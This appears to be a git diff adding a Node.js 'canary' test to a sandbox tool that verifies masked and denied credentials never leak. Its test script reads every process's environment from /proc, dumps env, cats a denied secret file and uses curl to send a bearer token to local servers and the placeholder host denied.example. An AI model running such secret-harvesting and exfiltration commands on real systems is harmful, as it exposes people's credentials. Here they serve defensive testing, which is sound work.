@@ -4,6 +4,7 @@
 // program that ignores the proxy variables gets (nothing).
 import assert from 'node:assert/strict'
 import { spawn, spawnSync } from 'node:child_process'
+import crypto from 'node:crypto'
 import dgram from 'node:dgram'
 import fs from 'node:fs'
 import http from 'node:http'
@@ -20,8 +21,8 @@ const { home, env } = sandboxEnv()
 const work = tempDir('srt-net-')
 
 /** Runs `sh -c script` in the sandbox without blocking this process (its servers must answer). */
-function run(script, network = {}, { kind = 'native', filesystem = {}, wrap } = {}) {
-  const file = settingsFile(home, config({ network, filesystem }))
+function run(script, network = {}, { kind = 'native', filesystem = {}, wrap, extra = {} } = {}) {
+  const file = settingsFile(home, config({ network, filesystem, ...extra }))
   let [cmd, argv] = kinds[kind](['--settings', file, 'sh', '-c', script])
   if (wrap) [cmd, argv] = wrap(cmd, argv)
   return new Promise((resolve, reject) => {
@@ -636,6 +637,97 @@ describe('filterRequest (library) and the header rules', () => {
     const r = await run(`${viaProxy} curl -sS -D - -o /dev/null http://localhost:${s.plain}/h`, { allowedDomains: ['localhost'], stripResponseHeaders: ['set-cookie'] })
     assert.match(r.stdout, /x-kept: yes/i, r.stderr)
     assert.doesNotMatch(r.stdout, /set-cookie/i)
+  })
+})
+
+describe('credentials: denied and masked secrets (the canary test)', () => {
+  // Secrets of this run: each must appear nowhere the command or the logs can see.
+  const canary = `canary-${crypto.randomBytes(28).toString('hex')}`
+  const denied = `denied-${crypto.randomBytes(16).toString('hex')}`
+  const inFile = `file-secret-${crypto.randomBytes(16).toString('hex')}`
+
+  /** An HTTPS and a plain server that record what reaches them. */
+  async function recording() {
+    const seen = []
+    const handler = (req, res) => {
+      let body = ''
+      req.on('data', (d) => (body += d))
+      req.on('end', () => {
+        seen.push({ url: req.url, auth: req.headers.authorization, body })
+        res.end('recorded\n')
+      })
+    }
+    return { plain: await listen(http.createServer(handler)), secure: await listen(https.createServer({ key: tls.key, cert: tls.cert }, handler)), seen }
+  }
+
+  /** Everything a command can see of its environment and its neighbours', then the requests. */
+  const script = (s, file) =>
+    `${viaProxy} echo "masked=$CANARY_TOKEN denied=\${CANARY_DENIED:-unset}"; ` +
+    `cat ${file} 2>&1 | head -c 200; echo; ` +
+    `for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; tr '\\0' ' ' < $p/cmdline; echo; done 2>/dev/null; env; ` +
+    `curl -sS -H "Authorization: Bearer $CANARY_TOKEN" -d "token=$CANARY_TOKEN" https://localhost:${s.secure}/inject; ` +
+    `curl -sS -H "Authorization: Bearer $CANARY_TOKEN" http://localhost:${s.plain}/cleartext; ` +
+    `curl -sS -H "Authorization: Bearer $CANARY_TOKEN" https://denied.example/ 2>&1; ` +
+    `curl -sS -H "Authorization: Bearer $CANARY_TOKEN" https://localhost:1/ 2>&1; true`
+
+  const settings = (file) => ({
+    network: { allowedDomains: ['localhost', 'localhost:1'], tlsTerminate: { extraCaCertPaths: [tls.ca] } },
+    credentials: {
+      envVars: [
+        { name: 'CANARY_TOKEN', mode: 'mask' },
+        { name: 'CANARY_DENIED', mode: 'deny' },
+      ],
+      files: [{ path: file, mode: 'deny' }],
+    },
+  })
+
+  function check(r, s) {
+    const everything = r.stdout + r.stderr
+    for (const secret of [canary, denied, inFile]) assert.ok(!everything.includes(secret), `a secret leaked into the command's view or srt's output:\n${everything}`)
+    const sentinel = /masked=(fake_value_[0-9a-f-]+[a-z0-9_-]*) denied=unset\n/.exec(r.stdout)?.[1]
+    assert.ok(sentinel, r.stdout + r.stderr)
+    assert.equal(sentinel.length, canary.length, 'padded to the real length')
+    assert.match(r.stdout, /recorded\nrecorded\n/)
+    // Injected in the terminated tunnel, header and body; not in cleartext.
+    assert.deepEqual(s.seen, [
+      { url: '/inject', auth: `Bearer ${canary}`, body: `token=${canary}` },
+      { url: '/cleartext', auth: `Bearer ${sentinel}`, body: '' },
+    ])
+  }
+
+  it('the CLI: the command sees a sentinel, the injection host the real value, and nothing shows a secret (with --debug)', async () => {
+    const s = await recording()
+    const file = path.join(work, 'secret-file')
+    fs.writeFileSync(file, `${inFile}\n`)
+    const wrap = (cmd, argv) => ['env', [`CANARY_TOKEN=${canary}`, `CANARY_DENIED=${denied}`, 'SRT_DEBUG=1', cmd, ...argv]]
+    const r = await run(script(s, file), settings(file).network, { wrap, extra: { credentials: settings(file).credentials } })
+    check(r, s)
+    assert.match(r.stderr, /\[SandboxDebug\]/, 'debug output was on')
+    assert.match(r.stderr, /denied\.example:443 \(host is not on the allow list\)/)
+  })
+
+  it('the library: the same, and its violations show no secret', async () => {
+    const { SandboxManager } = await import('../lib/index.mjs')
+    const s = await recording()
+    const file = path.join(work, 'secret-file-lib')
+    fs.writeFileSync(file, `${inFile}\n`)
+    process.env.CANARY_TOKEN = canary
+    process.env.CANARY_DENIED = denied
+    const m = new SandboxManager()
+    try {
+      await m.initialize(config(settings(file)))
+      const line = await m.wrapWithSandbox(script(s, file))
+      assert.ok(!line.includes(canary) && !line.includes(denied))
+      const r = await collect('/bin/sh', ['-c', line], { env: { ...env, CANARY_TOKEN: canary, CANARY_DENIED: denied }, cwd: work })
+      check(r, s)
+      const lines = m.getSandboxViolationStore().getViolations().map((v) => v.line).join('\n')
+      assert.match(lines, /denied\.example/)
+      assert.ok(!lines.includes(canary), lines)
+    } finally {
+      delete process.env.CANARY_TOKEN
+      delete process.env.CANARY_DENIED
+      await m.reset()
+    }
   })
 })
 
